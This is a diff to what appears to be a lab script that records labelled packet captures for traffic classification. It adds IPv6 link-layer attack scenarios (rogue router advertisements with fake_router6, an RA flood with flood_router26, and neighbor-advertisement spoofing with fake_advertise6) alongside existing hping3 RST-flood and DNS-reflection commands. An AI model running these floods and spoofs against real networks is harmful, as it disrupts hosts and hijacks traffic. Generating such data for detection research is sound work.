@@ -129,6 +129,28 @@ record flood-rst 20 hping3 -R -p 80 -c 6000 -i u50 $T
 # DNS reflection: answer-sized datagrams from port 53 of many reflectors to a port nobody asked on.
 SNAP=96 record reflection-dns 20 hping3 -2 -s 53 -k -p 33333 -d 480 --rand-source -c 4000 -i u100 $T
 
+# --- the link layer ---
+# A router advertisement from the link's router (the victim, sent with scapy), then thc-ipv6
+# fake_router6 announcing itself as a router from the attacker.
+record rogue-ra 15 sh -c '
+ip netns exec '"$V"' /usr/bin/python3 -c "
+from scapy.all import Ether, IPv6, ICMPv6ND_RA, ICMPv6NDOptPrefixInfo, sendp, get_if_hwaddr
+import subprocess
+ll = subprocess.run([\"ip\", \"-6\", \"-o\", \"addr\", \"show\", \"dev\", \"rv\", \"scope\", \"link\"],
+                    capture_output=True, text=True).stdout.split()[3].split(\"/\")[0]
+sendp(Ether(src=get_if_hwaddr(\"rv\"), dst=\"33:33:00:00:00:01\") / IPv6(src=ll, dst=\"ff02::1\")
+      / ICMPv6ND_RA() / ICMPv6NDOptPrefixInfo(prefix=\"fd09::\", prefixlen=64), iface=\"rv\", verbose=False)
+"
+sleep 1
+timeout 4 atk6-fake_router6 ra fd66::/64'
+# thc-ipv6 flood_router26: router advertisements from random sources, as fast as it can.
+SNAP=96 COUNT=4000 record ra-flood 8 timeout 2 atk6-flood_router26 ra
+# The victim's address fd09::10 resolved by the attacker (the victim answers), then claimed by the
+# attacker's MAC with thc-ipv6 fake_advertise6.
+record nd-spoof 15 sh -c '
+ping -6 -c 2 -i 0.2 fd09::10
+timeout 3 atk6-fake_advertise6 ra fd09::10'
+
 # --- benign ---
 # A busy resolver (the victim) asking ten upstream servers 3,000 questions a second for 2 s:
 # thousands of answers from port 53, every one asked for.
